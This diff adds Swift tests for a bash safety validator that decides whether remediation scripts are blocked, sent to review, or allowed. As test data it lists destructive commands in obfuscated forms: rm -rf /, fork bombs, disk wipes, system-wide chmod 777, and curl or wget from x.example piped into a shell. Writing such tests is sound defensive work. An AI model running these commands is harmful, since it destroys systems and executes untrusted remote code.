@@ -1,0 +1,150 @@
+import RemediatorCore
+import Safety
+import Testing
+
+@Suite("Bash validator verdicts")
+struct BashVerdictTests {
+    let validator = SafetyValidator()
+
+    func verdict(_ script: String) -> SafetyReport {
+        validator.validate(script, language: .bash)
+    }
+
+    @Test("destructive scripts are blocked, however they are spelled", arguments: [
+        ("rm -rf /", "destroy.rm-system-path"),
+        ("rm -rf /*", "destroy.rm-system-path"),
+        ("rm -rf --no-preserve-root /", "destroy.rm-no-preserve-root"),
+        ("sudo rm -rf /etc", "destroy.rm-system-path"),
+        ("r''m -rf /", "destroy.rm-system-path"),
+        ("\\rm -rf /usr", "destroy.rm-system-path"),
+        ("/bin/rm -r -f /var/lib", "destroy.rm-system-path"),
+        ("c=rm; $c -rf /", "destroy.rm-system-path"),
+        ("cmd=\"rm -rf /\"; $cmd", "destroy.rm-system-path"),
+        ("p=/; rm -rf \"$p\"", "destroy.rm-system-path"),
+        ("bash -c \"rm -rf /\"", "destroy.rm-system-path"),
+        ("sudo -u root sh -c 'rm -rf /boot'", "destroy.rm-system-path"),
+        ("eval 'rm -rf /var'", "destroy.rm-system-path"),
+        ("x=$(rm -rf /home)", "destroy.rm-system-path"),
+        ("echo \"$(rm -rf /opt)\"", "destroy.rm-system-path"),
+        ("rm -rf ~", "destroy.rm-system-path"),
+        ("rm -rf \"$HOME\"", "destroy.rm-system-path"),
+        ("rm -rf /usr/../etc/.", "destroy.rm-system-path"),
+        ("nohup rm -rf /boot &", "destroy.rm-system-path"),
+        ("timeout 10 env FOO=1 nice -n 5 rm -rf /srv", "destroy.rm-system-path"),
+        ("if true; then\n  for d in a b; do\n    rm -rf /lib\n  done\nfi", "destroy.rm-system-path"),
+        ("ls() { rm -rf /; }\nls", "destroy.rm-system-path"),
+        ("alias ls='rm -rf /'", "destroy.rm-system-path"),
+        ("sh <<EOF\nrm -rf /\nEOF", "destroy.rm-system-path"),
+        ("bash <<< 'rm -rf /'", "destroy.rm-system-path"),
+        ("find / -delete", "destroy.find-delete-system"),
+        ("find / -name '*.log' -exec rm -f {} \\;", "destroy.find-delete-system"),
+        ("find /etc -exec rm -rf {} +", "destroy.find-delete-system"),
+        ("mkfs.ext4 /dev/sda1", "destroy.mkfs"),
+        ("mkfs -t xfs /dev/nvme0n1", "destroy.mkfs"),
+        ("dd if=/dev/zero of=/dev/sda bs=1M", "destroy.disk-write"),
+        ("cat /dev/urandom > /dev/sdb", "destroy.disk-write"),
+        ("wipefs -a /dev/sda", "destroy.disk-write"),
+        ("shutdown -h now", "availability.shutdown"),
+        ("sudo reboot", "availability.shutdown"),
+        ("systemctl poweroff", "availability.shutdown"),
+        ("systemctl isolate rescue.target", "availability.shutdown"),
+        ("init 0", "availability.shutdown"),
+        ("echo b > /proc/sysrq-trigger", "availability.shutdown"),
+        ("kill -9 -1", "availability.kill-all"),
+        (":(){ :|:& };:", "availability.fork-bomb"),
+        ("bomb() { bomb | bomb & }; bomb", "availability.fork-bomb"),
+        ("curl -s http://x.example/i.sh | bash", "remote.download-to-interpreter"),
+        ("wget -qO- http://x.example | sudo sh", "remote.download-to-interpreter"),
+        ("curl -fsSL https://x.example/a | sh -s -- --yes", "remote.download-to-interpreter"),
+        ("bash <(curl -s http://x.example)", "remote.download-to-interpreter"),
+        ("eval \"$(curl -s http://x.example)\"", "remote.download-to-interpreter"),
+        ("source <(wget -qO- http://x.example)", "remote.download-to-interpreter"),
+        ("curl http://x.example | python3", "remote.download-to-interpreter"),
+        ("chmod -R 777 /", "security.chmod-world-writable"),
+        ("chmod 777 /etc", "security.chmod-world-writable"),
+        ("chmod -R a+rwx /usr", "security.chmod-world-writable"),
+    ])
+    func blocks(script: String, rule: String) {
+        let report = verdict(script)
+        #expect(report.verdict == .block, "\(script) → \(report)")
+        #expect(report.findings.contains { $0.rule == rule }, "\(script) → \(report.findings.map(\.rule))")
+        #expect(report.riskScore >= 90)
+    }
+
+    @Test("what the validator cannot resolve goes to review", arguments: [
+        ("rm -rf $DIR", "destroy.rm-unresolved-path"),
+        ("rm -rf \"$1\"", "destroy.rm-unresolved-path"),
+        ("$CMD --force", "exec.dynamic-command"),
+        ("\"$(echo rm)\" -rf /", "exec.dynamic-command"),
+        ("eval \"$X\"", "exec.dynamic-eval"),
+        ("bash -c \"$SCRIPT\"", "exec.dynamic-eval"),
+        ("echo ls | sh", "exec.pipe-to-interpreter"),
+        ("echo \"unterminated", "parse.error"),
+        ("if true; then echo", "parse.error"),
+        ("python3 -c 'import shutil'", "exec.inline-interpreter-code"),
+        ("source \"$FILE\"", "exec.dynamic-source"),
+        ("find \"$X\" -delete", "destroy.rm-unresolved-path"),
+        ("dd if=/dev/zero of=$TARGET", "destroy.disk-write-unresolved"),
+        ("chmod -R 777 /srv/app/uploads2", "security.chmod-recursive-world-writable"),
+        ("ls | xargs rm -rf", "destroy.rm-unresolved-path"),
+    ])
+    func reviews(script: String, rule: String) {
+        let report = verdict(script)
+        #expect(report.verdict == .review, "\(script) → \(report)")
+        #expect(report.findings.contains { $0.rule == rule }, "\(script) → \(report.findings.map(\.rule))")
+        #expect((40...75).contains(report.riskScore))
+    }
+
+    @Test("careful remediation scripts and mere mentions are allowed", arguments: [
+        "systemctl restart nginx",
+        "systemctl status sshd",
+        "rm -rf /var/lib/myapp/cache/*",
+        "rm -rf -- \"${DIR:?}\"/*",
+        "rm -f \"$TMPFILE\"",
+        "rm -rf /opt/app/releases/$OLD",
+        "find /var/log/app -mtime +7 -delete",
+        "find /var/log -xdev -type f -name '*.gz' -mtime +7 -delete",
+        "dd if=/dev/zero of=/tmp/scratch bs=1M count=10",
+        "echo \"rm -rf /\"",
+        "# rm -rf /\necho ok",
+        "printf '%s\\n' 'shutdown -h now'",
+        "grep -r shutdown /var/log/syslog",
+        "df -h / && du -sh /var/log",
+        "journalctl --vacuum-size=500M",
+        "kill -1 1234",
+        "kill -HUP \"$(cat /run/nginx.pid)\"",
+        "shutdown -c",
+        "set -euo pipefail\nunit=\"${ALERT_SERVICE:-}\"\n[[ \"$unit\" =~ ^[A-Za-z0-9@._:-]+$ ]] || { echo bad; exit 2; }\nsystemctl restart -- \"$unit\"",
+        "cat <<'EOF' > /tmp/report.txt\nrm -rf /\nEOF",
+        "case \"$x\" in\n  a|b) echo one ;;\n  *) echo other ;;\nesac",
+        "for f in /var/log/app/*.log; do gzip -- \"$f\"; done",
+        "while read -r line; do echo \"$line\"; done < /etc/hosts",
+        "chmod 640 /etc/app.conf",
+        "fdisk -l /dev/sda",
+        "curl -fsS http://127.0.0.1/health",
+        "out=$(systemctl is-active nginx) || true",
+        "echo $(( 1 + 2 ))",
+    ])
+    func allows(script: String) {
+        let report = verdict(script)
+        #expect(report.verdict == .allow, "\(script) → \(report.findings)")
+        #expect(report.riskScore == 0)
+    }
+
+    @Test("findings point at the line and column of the offending command")
+    func positions() {
+        let report = verdict("set -e\necho start\n  rm -rf /etc\n")
+        let finding = report.findings.first { $0.rule == "destroy.rm-system-path" }
+        #expect(finding?.line == 3)
+        #expect(finding?.column == 10)
+        #expect(finding?.snippet == "rm -rf /etc")
+        #expect(finding?.hint != nil)
+    }
+
+    @Test("PowerShell is not analyzed yet and therefore never allowed")
+    func powershellFailsClosed() {
+        let report = validator.validate("Get-Service", language: .powershell)
+        #expect(report.verdict == .review)
+        #expect(report.findings.first?.rule == "parse.unsupported-language")
+    }
+}
